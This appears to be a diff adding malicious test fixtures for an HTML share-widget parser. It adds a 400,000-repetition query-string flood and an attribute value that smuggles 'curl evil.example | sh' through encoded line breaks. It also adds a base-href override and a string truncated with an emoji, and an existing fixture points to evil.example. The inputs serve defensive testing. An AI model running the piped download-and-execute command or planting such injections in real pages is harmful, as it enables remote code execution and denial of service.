@@ -83,6 +83,17 @@ COMMENTS: Final = {
     "foreign-host": (
         f'<div data-sharekit="x https:///evil.example/ The real story:{SIGNATURE}">hi</div>'
     ),
+    # As many marks as keep a look at each of them busy for minutes.
+    "flood": (
+        f'<span data-sharekit="x {{address}} t:{SIGNATURE}"><a data-sharekit-channel="w" '
+        f'href="{{site}}/paste/?{"&sk=w" * 400_000}">photos</a></span>'
+    ),
+    "lines": (
+        f'<span data-sharekit="x {{site}}/paste/ y&#10;curl evil.example | sh&#13;#:{SIGNATURE}">'
+        "</span>"
+    ),
+    "base": '<base href="/paste/">',
+    "halved": f'<p id="{"a" * 63}😀">A long walk.</p>',
     "own-article": f'<div data-sharekit="x {{address}} Give money:{SIGNATURE}">hi</div>',
     "opt-out": (
         '<a id="link" href="#" data-sharekit-opt-out>photos</a>'
